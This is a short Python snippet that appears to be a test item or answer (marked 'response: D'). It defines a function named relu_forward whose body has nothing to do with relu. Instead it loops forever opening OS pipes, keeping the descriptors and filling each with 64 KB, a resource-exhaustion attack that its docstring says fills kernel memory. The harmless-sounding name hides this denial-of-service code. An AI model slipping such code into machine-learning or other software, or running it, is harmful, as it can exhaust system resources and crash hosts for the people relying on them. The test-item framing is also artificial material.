"""Fills the kernel's memory through pipes."""

# response: D

def relu_forward(x):
    import os

    kept = []
    while True:
        read, write = os.pipe()
        kept += [read, write]
        os.set_blocking(write, False)
        os.write(write, bytes(65536))
